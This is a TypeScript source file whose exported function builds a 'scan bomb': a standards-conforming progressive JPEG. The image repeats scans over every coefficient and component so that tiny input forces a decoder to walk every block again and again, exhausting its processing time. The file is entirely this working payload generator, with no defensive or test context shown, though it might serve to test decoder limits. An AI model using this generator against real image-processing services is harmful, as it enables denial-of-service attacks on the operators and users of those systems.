/** One more set bit than a run of blocks can be long: each code ends 32,767 blocks. */
const RUN_BLOCKS = 32_767;
const COMPONENTS = [1, 2, 3] as const;
const LAST_COEFFICIENT = 63;

function segment(marker: number, ...data: number[]): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0, ...data]);
  head.writeUInt16BE(data.length + 2, 2);
  return head;
}

/** One code of one bit, `0`, for this symbol. */
const table = (kind: 0 | 1, symbol: number) =>
  segment(0xc4, kind << 4, 1, ...Array.from({ length: 15 }, () => 0), symbol);

/** Bits, filled up with ones and stuffed as entropy-coded data are. */
function entropy(bits: string): Buffer {
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
  const bytes: number[] = [];
  for (let at = 0; at < padded.length; at += 8) {
    const byte = Number.parseInt(padded.slice(at, at + 8), 2);
    bytes.push(byte);
    if (byte === 0xff) bytes.push(0);
  }
  return Buffer.from(bytes);
}

/**
 * A progressive JPEG in which every rule of the format is kept: each coefficient of each component comes in `passes` scans
 * of its own, one bit more in each. A few bytes a scan make the decoder visit every block of the picture.
 */
export function scanBomb(width: number, height: number, passes: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const run = `0${'1'.repeat(14)}`;
  const data = entropy(run.repeat(Math.ceil(blocks / RUN_BLOCKS)));
  const dc = Buffer.alloc(Math.ceil((blocks * COMPONENTS.length) / 8));
  const scans: Buffer[] = [segment(0xda, 3, 1, 0, 2, 0, 3, 0, 0, 0, 0), dc];
  for (const component of COMPONENTS) {
    for (let coefficient = 1; coefficient <= LAST_COEFFICIENT; coefficient++) {
      for (let low = passes - 1; low >= 0; low--) {
        const high = low === passes - 1 ? 0 : low + 1;
        scans.push(segment(0xda, 1, component, 0, coefficient, coefficient, (high << 4) | low), data);
      }
    }
  }
  const frame = [8, height >> 8, height & 255, width >> 8, width & 255, 3];
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array.from({ length: 64 }, () => 1)),
    segment(0xc2, ...frame, ...COMPONENTS.flatMap((id) => [id, 0x11, 0])),
    table(0, 0),
    table(1, 0xe0),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ]);
}
